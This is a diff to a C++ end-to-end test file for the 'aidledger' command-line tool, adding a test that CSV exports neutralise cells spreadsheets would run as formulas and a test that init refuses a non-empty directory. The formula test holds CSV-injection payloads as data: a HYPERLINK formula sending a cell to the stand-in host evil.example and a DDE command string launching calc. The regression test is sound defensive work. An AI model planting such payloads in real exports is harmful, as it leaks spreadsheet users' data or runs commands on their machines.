@@ -1,10 +1,12 @@
 // End-to-end: the built aidledger binary in a temporary directory, checked by
 // its output and exit codes.
+#include <filesystem>
 #include <fstream>
 #include <regex>
 
 #include "absl/strings/match.h"
 #include "absl/strings/str_split.h"
+#include "absl/strings/strip.h"
 #include "tests/cli/run.h"
 #include "ledger/internal/codec.h"
 #include "ledger/internal/store.h"
@@ -360,6 +362,57 @@ TEST_F(CliTest, AnAuditorCanDigestVerifyProveReplayAndRestore) {
   RunResult csv = Run({"replay", "--format", "csv", "--type", "sale"});
   EXPECT_THAT(csv.out, ::testing::StartsWith("type,event_id,effective_date,code,name"));
   EXPECT_EQ(std::count(csv.out.begin(), csv.out.end(), '\n'), 2);
+}
+
+// Issue 17, item 12: names that spreadsheets run as formulas came out of
+// balances, projects and replay CSV unchanged. They are neutralised, and
+// an export imported again gives back the very names.
+TEST_F(CliTest, CsvCellsThatSpreadsheetsWouldRunAreNeutralisedAndRoundTrip) {
+  Init();
+  const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+  MustRun({"region", "add", "--code", "620000", "--name", hyperlink, "--date", "2016-01-01"});
+  MustRun({"region", "add", "--code", "621100", "--name", "+cmd|' /C calc'!A0", "--parent", "620000",
+           "--date", "2016-01-01"});
+  MustRun({"project", "add", "--project", "P-1", "--region", "621100", "--name", "@SUM(1+1)",
+           "--category", "industry", "--budget", "100", "--date", "2016-01-01"});
+  for (const std::vector<std::string>& args : std::vector<std::vector<std::string>>{
+           {"--format", "csv", "balances"}, {"--format", "csv", "projects"}, {"replay", "--format", "csv"}}) {
+    RunResult result = Run(args);
+    ASSERT_EQ(result.exit_code, 0) << result.err;
+    for (absl::string_view line : absl::StrSplit(result.out, '\n')) {
+      for (absl::string_view cell : absl::StrSplit(line, ',')) {
+        absl::string_view unquoted = absl::StripPrefix(cell, "\"");
+        ASSERT_FALSE(!unquoted.empty() && (unquoted[0] == '=' || unquoted[0] == '+' || unquoted[0] == '@'))
+            << args.back() << ": a cell a spreadsheet would run: " << cell;
+      }
+    }
+  }
+  EXPECT_THAT(Run({"--format", "csv", "balances"}).out, ::testing::HasSubstr("'+cmd|' /C calc'!A0"));
+  RunResult exported = Run({"replay", "--format", "csv"});
+  const std::string file = dir_.Sub("export.csv");
+  std::ofstream(file) << exported.out;
+  const std::string copy = dir_.Sub("copy");
+  ASSERT_EQ(RunAidledger({"--db", copy, "init"}, dir_.path()).exit_code, 0);
+  RunResult imported = RunAidledger({"--db", copy, "import", file}, dir_.path());
+  ASSERT_EQ(imported.exit_code, 0) << imported.err;
+  RunResult names = RunAidledger({"--db", copy, "--format", "json", "balances"}, dir_.path());
+  EXPECT_THAT(names.out, ::testing::HasSubstr("\"name\":\"=HYPERLINK(\\\"http://evil.example/?x="));
+  EXPECT_THAT(names.out, ::testing::HasSubstr("\"name\":\"+cmd|' /C calc'!A0\""));
+}
+
+// Issue 17, item 10: init into a directory holding other files mixed
+// RocksDB's files with them.
+TEST_F(CliTest, InitRefusesADirectoryThatHoldsOtherFiles) {
+  std::filesystem::create_directories(db_);
+  std::ofstream(db_ + "/notes.txt") << "not a ledger\n";
+  RunResult result = Run({"init"});
+  EXPECT_EQ(result.exit_code, 2);
+  EXPECT_THAT(result.err, ::testing::HasSubstr("is not empty and holds no ledger"));
+  EXPECT_FALSE(std::filesystem::exists(db_ + "/CURRENT"));
+  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(db_), std::filesystem::directory_iterator()), 1);
+  std::filesystem::remove(db_ + "/notes.txt");
+  Init();  // still fine on an empty directory, and again ("already exists")
+  EXPECT_EQ(Run({"init"}).exit_code, 0);
 }
 
 TEST_F(CliTest, VerifyExitsFourOnATamperedLedger) {
